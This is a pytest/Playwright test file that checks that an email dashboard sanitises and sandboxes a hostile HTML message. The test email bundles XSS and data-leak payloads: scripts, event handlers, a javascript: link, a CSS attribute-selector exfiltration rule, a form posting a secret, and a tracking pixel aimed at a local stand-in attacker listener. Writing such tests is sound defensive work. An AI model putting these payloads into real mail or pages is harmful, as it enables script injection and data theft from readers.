"""A hostile HTML email shown in the dashboard: nothing runs, nothing is fetched behind the
reader's back, and remote images load only when asked for (and then only images)."""

from __future__ import annotations

import smtplib
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from inboxes import services as inbox_services
from mail.models import Email
from tests.dashboard.conftest import Team, login

PIXEL = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


class Listener:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        recorded = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorded.append(self.path)
                body = PIXEL if self.path.endswith(".gif") else b"/* leak */"
                self.send_response(200)
                self.send_header(
                    "Content-Type", "image/gif" if self.path.endswith(".gif") else "text/css"
                )
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )


@pytest.fixture
def listener() -> Iterator[Listener]:
    running = Listener()
    running.thread.start()
    yield running
    running.server.shutdown()
    running.server.server_close()


def hostile_html(url: str) -> str:
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={url}/refresh">
<base href="{url}/base/">
<link rel="stylesheet" href="{url}/link.css">
<style>@import url("{url}/import.css"); body {{ background: url({url}/style-bg.png); }}
input[value^="a"] {{ background: url({url}/exfil-a); }}</style>
<script>window.pwned = 1; document.title = "PWNED"; fetch("{url}/script-fetch");</script>
<script src="{url}/remote.js"></script>
</head><body onload="window.pwned = 2">
<h1 id="greeting">Hello from the hostile mail</h1>
<p style="background:url({url}/inline-style.png)">Styled paragraph</p>
<img src="x" onerror="window.pwned = 3; new Image().src='{url}/onerror'">
<svg onload="window.pwned = 4"><image href="{url}/svg-image.png"/></svg>
<a id="js-link" href="javascript:window.top.document.title='PWNED'">Click me</a>
<a id="ok-link" href="https://example.com/verify?t=1">Verify your account</a>
<form action="{url}/form" method="post"><input name="secret" value="abc">
<button type="submit">Send</button></form>
<iframe src="{url}/iframe"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed">
<table background="{url}/table-bg.png"><tr><td>cell</td></tr></table>
<img id="remote" src="{url}/pixel.gif" alt="tracking pixel">
<video poster="{url}/poster.png"></video>
</body></html>"""


def send_hostile(port: int, to: str, url: str) -> None:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@evil.example>"
    message["To"] = to
    message["Subject"] = "Totally harmless"
    message.set_content("Plain part: your code is 771204.")
    message.add_alternative(hostile_html(url), subtype="html")
    with smtplib.SMTP("127.0.0.1", port) as smtp:
        smtp.send_message(message)


def test_hostile_html_runs_nothing_and_fetches_nothing(page, team: Team, stack, listener):
    inbox = inbox_services.inbox_create(workspace=team.workspace, local_part="victim")
    send_hostile(stack.smtp_port, inbox.address, listener.url)
    email = Email.objects.get(inbox=inbox)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    login(page, "owner@acme.test")
    page.goto(f"/emails/{email.pk}/")
    page.get_by_role("tab", name="HTML").click()

    frame_element = page.locator("iframe.html-frame")
    sandbox = frame_element.get_attribute("sandbox")
    assert sandbox is not None
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    frame = page.frame_locator("iframe.html-frame")
    expect(frame.locator("#greeting")).to_have_count(0)  # ids are dropped…
    expect(frame.get_by_role("heading", name="Hello from the hostile mail")).to_be_visible()
    content = frame_element.element_handle().content_frame()
    content.wait_for_load_state("load")

    # Nothing ran: no flag, no title change, no dialog, in the frame or the page.
    assert content.evaluate("() => window.pwned") is None
    assert content.evaluate("() => document.title") == "Totally harmless"
    assert page.title().startswith("Totally harmless")
    assert dialogs == []
    # Nothing dangerous survived the sanitiser.
    # (Only the frame's own default stylesheet, linked by the server ahead of the mail.)
    ours = '<link rel="stylesheet" href="/static/css/mail-frame.css">'
    markup = content.evaluate("() => document.documentElement.outerHTML")
    assert markup.count(ours) == 1
    markup = markup.replace(ours, "")
    for needle in ("<script", "<style", "<form", "<input", "<iframe", "<object", "<embed",
                   "<meta http-equiv", "<base", "<link", "<svg", "onerror", "onload",
                   "javascript:", "style=", "background="):  # fmt: skip
        assert needle not in markup, needle
    assert content.locator("a", has_text="Click me").get_attribute("href") is None
    ok = content.locator("a", has_text="Verify your account")
    assert ok.get_attribute("href") == "https://example.com/verify?t=1"
    assert ok.get_attribute("target") == "_blank"
    assert ok.get_attribute("rel") == "noopener noreferrer"
    # The listener heard nothing at all: no CSS, script, form, frame or image request.
    assert listener.requests == []

    # The frame's document carries its own strict policy.
    response = page.request.get(f"/emails/{email.pk}/html")
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy
    assert "frame-ancestors 'self'" in policy and "http:" not in policy
    assert response.headers["x-frame-options"] == "SAMEORIGIN"

    # The reader asks for remote images: only the <img> arrives, nothing else.
    notice = page.locator(".images-notice")
    expect(notice).to_contain_text("1 remote image blocked")
    notice.get_by_role("link", name="Show remote images").click()
    expect(page.locator("iframe.html-frame")).to_have_attribute(
        "src", f"/emails/{email.pk}/html?images=1"
    )
    expect(page.get_by_role("tabpanel", name="HTML")).to_be_visible()
    frame = page.frame_locator("iframe.html-frame")
    expect(frame.get_by_role("img", name="tracking pixel")).to_have_attribute(
        "src", f"{listener.url}/pixel.gif"
    )
    content = page.locator("iframe.html-frame").element_handle().content_frame()
    content.wait_for_load_state("load")
    assert content.evaluate("() => document.images[document.images.length - 1].naturalWidth") == 1
    assert listener.requests == ["/pixel.gif"]
    assert content.evaluate("() => window.pwned") is None
    assert dialogs == []
    images_policy = page.request.get(f"/emails/{email.pk}/html?images=1").headers[
        "content-security-policy"
    ]
    assert "img-src data: https: http:" in images_policy and "script-src" not in images_policy


def test_the_html_document_is_sandboxed_even_when_opened_directly(
    page, team: Team, stack, listener
):
    inbox = inbox_services.inbox_create(workspace=team.workspace, local_part="direct")
    send_hostile(stack.smtp_port, inbox.address, listener.url)
    email = Email.objects.get(inbox=inbox)
    login(page, "owner@acme.test")
    page.goto(f"/emails/{email.pk}/html")
    expect(page.get_by_role("heading", name="Hello from the hostile mail")).to_be_visible()
    assert page.evaluate("() => window.pwned") is None
    assert page.title() == "Totally harmless"
    assert listener.requests == []
